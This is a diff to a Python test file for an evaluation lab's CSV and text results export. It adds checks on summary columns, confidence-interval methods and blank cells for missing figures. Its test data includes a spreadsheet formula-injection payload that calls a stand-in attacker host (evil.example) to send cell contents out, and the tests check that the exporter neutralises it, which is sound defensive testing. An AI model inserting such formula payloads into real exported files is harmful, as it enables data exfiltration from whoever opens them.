@@ -10,8 +10,10 @@ from typing import Any
 import pandas as pd
 import pytest
 
-from lab.results.export import items_csv, neutralise_cell, restore_cell, summary_csv, write_csv
-from lab.results.stats import ITEM_COLUMNS, SUMMARY_COLUMNS, item_frame, summary
+from lab.results.export import items_csv, neutralise_cell, restore_cell, summary_csv, summary_text, write_csv
+from lab.results.read import item_frame
+from lab.results.stats import SUMMARY_COLUMNS, summary
+from lab.run.store import ITEM_COLUMNS
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -135,14 +137,29 @@ def test_summary_csv_columns_rounding_and_round_trip() -> None:
     good = back[back["model"] == "openai/gpt-4o-mini"].iloc[0]
     assert (good["n"], good["correct"], good["accuracy"]) == (10, 8, 0.8)
     assert (good["ci_low"], good["ci_high"]) == (0.4902, 0.9433)
+    assert (good["ci_method"], good["instances"]) == ("wilson", 1)
+    assert math.isnan(good["instance_solve_rate"])  # a direct mode: an empty cell
     bad = back[back["model"] == "'=evil"].iloc[0]
     assert (bad["accuracy"], bad["ci_low"]) == (0.0, 0.0)
+    assert (bad["model_label"], bad["ci_method"]) == ("'=evil", "cluster_bootstrap")
+    assert (bad["instances"], bad["instance_solve_rate"]) == (1, 0.0)
     # Only the CSV is rounded.
     assert table["ci_low"].iloc[1] != round(table["ci_low"].iloc[1], 4)
     for line in lines[1:]:
         for field in line.split(","):
             if "." in field and field.replace(".", "").isdigit():
                 assert len(field.split(".")[1]) <= 4
+
+
+def test_summary_text_names_models_by_label_and_leaves_missing_figures_blank() -> None:
+    rows = [row(i, predicted="112", correct=i < 8) for i in range(10)]
+    rows += [{**row(i, predicted="x"), "mode": "solverlearner"} for i in range(3)]
+    text = summary_text(summary(item_frame(rows)))
+    header, direct, code = text.splitlines()
+    assert header.split() == [c for c in SUMMARY_COLUMNS if c != "model_label"]
+    assert direct.split()[0] == "openai/gpt-4o-mini" and "0.800" in direct and "wilson" in direct
+    assert "cluster_bootstrap" in code and code.split()[-1] == "0.000"
+    assert direct.split()[-1] == "1"  # no solve rate for a direct mode: blank, not "nan"
 
 
 def test_summary_csv_writes_nan_as_an_empty_cell_and_names_a_missing_column() -> None:
